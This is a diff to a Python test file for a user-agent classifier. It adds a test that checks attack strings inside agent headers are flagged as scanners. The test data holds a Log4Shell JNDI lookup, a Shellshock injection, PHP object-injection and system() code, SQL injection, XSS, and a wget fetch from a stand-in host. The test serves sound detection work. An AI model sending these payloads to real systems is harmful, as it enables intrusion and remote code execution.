@@ -9,7 +9,7 @@ import pytest
 from crawleruseragents import CRAWLER_USER_AGENTS_DATA
 
 from pipeline.enrich.labels import Label
-from pipeline.enrich.robots import NOT_ROBOTS, Robots, name_of
+from pipeline.enrich.robots import IN_AGENT, NOT_ROBOTS, Robots, name_of
 
 CORPUS = Path(__file__).parents[2] / "../shared/data/ua-corpus/ua.jsonl"
 AI_NAMES = CORPUS.parents[1] / "lists/crawlers/ai.robots.json"
@@ -87,6 +87,26 @@ def test_a_robot_is_known_by_name_and_category(robots: Robots, agent: str, name:
 )  # fmt: skip
 def test_a_persons_browser_is_no_robot(robots: Robots, agent: str) -> None:
     assert _name(robots, agent) == ""
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "${jndi:ldap://x.example/a}",
+        "() { :; }; /bin/sh -c id",
+        '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc"',
+        '<?php system("id"); ?>',
+        "' or '1'='1",
+        "1 UNION ALL SELECT 1,2",
+        "; wget http://x.example/a.sh",
+        "<script>alert(1)</script>",
+    ],
+)
+def test_an_attack_in_an_agent_is_named_alone_and_behind_a_browser(robots: Robots, attack: str) -> None:
+    for agent in (attack, f"{ANDROID.format('SM-S918B')} {attack}", f"Mozilla/5.0 {attack}"):
+        found = robots.find(agent)
+        assert found is not None
+        assert (found.name, found.category) == (IN_AGENT, Label.ROBOT_SCANNER)
 
 
 def test_a_robot_on_a_phone_named_cubot_is_still_a_robot(robots: Robots) -> None:
